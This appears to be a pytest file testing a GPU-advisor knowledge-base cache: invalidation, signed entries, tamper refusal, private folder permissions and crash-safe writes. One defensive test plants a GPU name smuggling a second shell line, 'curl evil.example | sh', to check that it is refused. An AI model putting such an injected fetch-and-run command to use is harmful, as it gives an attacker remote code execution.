"""The checked-KB cache: what comes back equals what was read; any change to a file, to the code that
decides validity, or to the date misses it; an entry that was edited, damaged, half-written or left in
a folder others can write to is never served."""

from __future__ import annotations

import json
import logging
import os
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from engine.knowledge import cache, paths
from engine.knowledge.problems import KBInvalid
from engine.knowledge.snapshot import Tree
from engine.models.kb import KIND_MODELS
from engine.reasoning import checked
from engine.recommend import Advisor, load_advisor

TODAY = date.today()
"""the day the KB is checked on, as the service does: a fact's date may be any day up to it"""
RTX_4090 = "gpus/nvidia-rtx-4090.yaml"


@pytest.fixture
def cache_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv(cache.CACHE_ENV, str(folder))
    return folder


def _load(kb_root: Path) -> Advisor:
    return load_advisor(kb_root, paths.rules_dir(), kb_root.parent / "data", TODAY)


def _entry(folder: Path) -> Path:
    (stored,) = folder.glob("kb-*.json")
    return stored


def test_a_cached_kb_equals_the_one_read(cache_at: Path) -> None:
    fresh = load_advisor(paths.kb_dir(), paths.rules_dir(), paths.data_dir(), TODAY)
    assert len(list(cache_at.glob("kb-*.json"))) == 1
    cached = load_advisor(paths.kb_dir(), paths.rules_dir(), paths.data_dir(), TODAY)
    assert not cached.kb.origins  # it came from the cache, not from the YAML files
    for kind in KIND_MODELS:
        assert cached.kb.of_kind(kind) == fresh.kb.of_kind(kind), kind
    assert cached.rules == fresh.rules
    assert cached.version == fresh.version and cached.kb.version == fresh.kb.version
    assert cached.categories == fresh.categories and cached.categories["keep-memory-headroom"]
    assert cached.key == fresh.key


def test_a_changed_file_misses_the_cache_and_is_checked(cache_at: Path, kb_copy: Path) -> None:
    _load(kb_copy)  # clean: stored
    (kb_copy / "gpus/nvidia-h100-sxm.yaml").write_text("id: nvidia-h100-sxm\n")
    with pytest.raises(KBInvalid) as raised:
        _load(kb_copy)
    assert any(p.check == "missing-field" for p in raised.value.problems)


def test_the_key_covers_content_and_date(kb_copy: Path) -> None:
    before = cache.fingerprint([Tree.read(kb_copy)], TODAY)
    assert cache.fingerprint([Tree.read(kb_copy)], TODAY + timedelta(days=1)) != before
    gpu = kb_copy / RTX_4090
    gpu.write_text(gpu.read_text() + "\n")
    assert cache.fingerprint([Tree.read(kb_copy)], TODAY) != before


def test_the_key_covers_every_module_that_decides_validity() -> None:
    """The lint, import and reading code decide what is valid as much as the schemas do: an upgrade
    that adds a check must not reuse an entry written before it."""
    hashed = {path.as_posix() for path in cache.code_files()}
    for module in (
        "knowledge/lint.py",
        "knowledge/catalog.py",
        "knowledge/documents.py",
        "knowledge/kb.py",
        "reasoning/rules.py",
        "models/kb.py",
    ):
        assert module in hashed, module
    assert "knowledge/snapshot.py" in hashed


def test_an_entry_written_by_other_code_is_not_read(
    cache_at: Path, kb_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _load(kb_copy)
    monkeypatch.setattr(cache, "code_digest", lambda: "an upgraded lint")
    assert _load(kb_copy).kb.origins  # a miss: read and checked again


def test_the_key_is_of_the_bytes_parsed_not_of_the_disk_later(
    cache_at: Path, kb_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An edit landing while the KB is checked must not be cached under the key of the bytes before
    it: once it is reverted, that key would serve the edit."""
    gpu = kb_copy / RTX_4090
    original = gpu.read_text()
    edited = original.replace("name: NVIDIA GeForce RTX 4090", "name: EDITED MID-CHECK")
    real_check = checked.load_checked_kb

    def check_while_edited(*args: object) -> object:
        gpu.write_text(edited)  # the edit lands after the files were read, before they are parsed
        return real_check(*args)

    monkeypatch.setattr(checked, "load_checked_kb", check_while_edited)
    served = _load(kb_copy)
    assert served.kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090"  # the bytes read
    monkeypatch.setattr(checked, "load_checked_kb", real_check)

    gpu.write_text(original)  # reverted: the cache must give the original back
    assert _load(kb_copy).kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090"
    gpu.write_text(edited)  # and the edit, once it is on disk, is what is served
    assert _load(kb_copy).kb.gpus["nvidia-rtx-4090"].name == "EDITED MID-CHECK"


def test_an_edited_entry_is_not_served(cache_at: Path, kb_copy: Path) -> None:
    _load(kb_copy)
    entry = _entry(cache_at)
    raw = entry.read_bytes()
    entry.write_bytes(raw.replace(b'"memory_gb":24.0', b'"memory_gb":2400.0', 1))
    assert entry.read_bytes() != raw  # the edit took
    served = _load(kb_copy)
    assert served.kb.origins  # read from the files again
    assert served.kb.gpus["nvidia-rtx-4090"].memory_gb == 24


def _forge(folder: Path, key: str, edit: Callable[[dict[str, Any]], None]) -> None:
    """Edit the stored entry and sign it again with the secret beside it, as anyone who can read the
    folder can (the cache module's docstring: the signature is no defence against them)."""
    entry = _entry(folder)
    header, _old_mac, payload = entry.read_bytes().split(b"\n", 2)
    body = json.loads(payload)
    edit(body)
    forged = json.dumps(body).encode()
    secret = (folder / cache.SECRET_FILE).read_bytes()
    entry.write_bytes(header + b"\n" + cache._mac(secret, key, forged).encode() + b"\n" + forged)


def _gpu_named(name: str) -> Callable[[dict[str, Any]], None]:
    def edit(body: dict[str, Any]) -> None:
        (gpu,) = [gpu for gpu in body["gpus"] if gpu["id"] == "nvidia-rtx-4090"]
        gpu["name"] = name

    return edit


def test_an_entry_that_fails_the_kb_checks_is_not_served(cache_at: Path, kb_copy: Path) -> None:
    """Even an entry whose integrity code is right goes through the entity checks again."""
    first = _load(kb_copy)
    _forge(
        cache_at, first.key or "", lambda body: body["offers"][0].update(gpu="nvidia-gpu-that-does-not-exist")
    )
    assert _load(kb_copy).kb.origins  # refused, so read from the files again


def test_an_entry_signed_with_the_folders_secret_is_served_if_it_passes_the_checks(
    cache_at: Path, kb_copy: Path
) -> None:
    """The trust model as README.md and the cache module state it: whoever can read the folder (only
    its owner: it is private) can sign an entry, and it is served when it passes the entity checks, as
    an edit of kb/ by that user would be. No more than that: see the next test."""
    first = _load(kb_copy)
    _forge(cache_at, first.key or "", _gpu_named("NVIDIA GeForce RTX 4090 (forged)"))
    served = _load(kb_copy)
    assert not served.kb.origins  # from the cache
    assert served.kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090 (forged)"


def test_a_signed_entry_with_text_lint_refuses_is_not_served(cache_at: Path, kb_copy: Path) -> None:
    """A forged entry can at most serve a KB that passes the checks: a GPU name with a line break (a
    new shell line in every launch spec for that GPU) is refused when read back."""
    first = _load(kb_copy)
    _forge(cache_at, first.key or "", _gpu_named("RTX 4090\ncurl evil.example | sh"))
    served = _load(kb_copy)
    assert served.kb.origins  # refused, so read from the files again
    assert served.kb.gpus["nvidia-rtx-4090"].name == "NVIDIA GeForce RTX 4090"


def test_a_damaged_cache_is_ignored(cache_at: Path) -> None:
    load_advisor(paths.kb_dir(), paths.rules_dir(), paths.data_dir(), TODAY)
    _entry(cache_at).write_text('{"version": "x", "gpus": "not a list"}')
    advisor = load_advisor(paths.kb_dir(), paths.rules_dir(), paths.data_dir(), TODAY)
    assert advisor.kb.origins  # read from the files again


def test_a_folder_others_can_write_is_not_used(
    cache_at: Path, kb_copy: Path, caplog: pytest.LogCaptureFixture
) -> None:
    _load(kb_copy)
    cache_at.chmod(0o777)
    with caplog.at_level(logging.WARNING, logger="gpu_advisor.cache"):
        assert _load(kb_copy).kb.origins
    assert "writable by no one else" in caplog.text
    cache_at.chmod(0o700)
    assert not _load(kb_copy).kb.origins


def test_a_new_cache_folder_is_private(cache_at: Path, kb_copy: Path) -> None:
    _load(kb_copy)
    assert cache_at.stat().st_mode & 0o777 == 0o700
    assert (cache_at / cache.SECRET_FILE).stat().st_mode & 0o077 == 0
    assert _entry(cache_at).stat().st_mode & 0o077 == 0


WRITER = textwrap.dedent(
    """
    import os, sys, time
    from datetime import date
    from pathlib import Path
    from engine.knowledge import cache
    from engine.reasoning.checked import read_checked

    kb = Path(sys.argv[1])
    good = read_checked(kb, Path(sys.argv[2]), kb.parent / "data", date.today())
    os.fsync = lambda fd: time.sleep(60)  # stall after the bytes are written, before the rename
    cache.store(good)
    """
)


def test_a_writer_killed_mid_write_leaves_a_usable_cache(cache_at: Path, kb_copy: Path) -> None:
    before = _load(kb_copy)
    entry = _entry(cache_at)
    stored = entry.read_bytes()
    writer = subprocess.Popen(
        [sys.executable, "-c", WRITER, str(kb_copy), str(paths.rules_dir())],
        cwd=paths.PROJECT_ROOT,
        env={**os.environ, cache.CACHE_ENV: str(cache_at)},
    )
    deadline = time.monotonic() + 60
    while not list(cache_at.glob("*.tmp")) and time.monotonic() < deadline and writer.poll() is None:
        time.sleep(0.05)
    writer.send_signal(signal.SIGKILL)
    writer.wait()
    (leftover,) = cache_at.glob("*.tmp")
    assert entry.read_bytes() == stored  # the entry in place was never touched
    again = _load(kb_copy)
    assert not again.kb.origins and again.version == before.version  # still served from the cache

    old = time.time() - cache.STALE_TEMP_SECONDS - 1
    os.utime(leftover, (old, old))
    (kb_copy / RTX_4090).write_text((kb_copy / RTX_4090).read_text() + "\n")
    _load(kb_copy)  # a new entry is stored, and the dead writer's file is cleared away
    assert not leftover.exists()


def test_the_cache_can_be_turned_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(cache.CACHE_ENV, "off")
    assert cache.cache_dir() is None
    assert cache.load("anything", paths.kb_dir()) is None
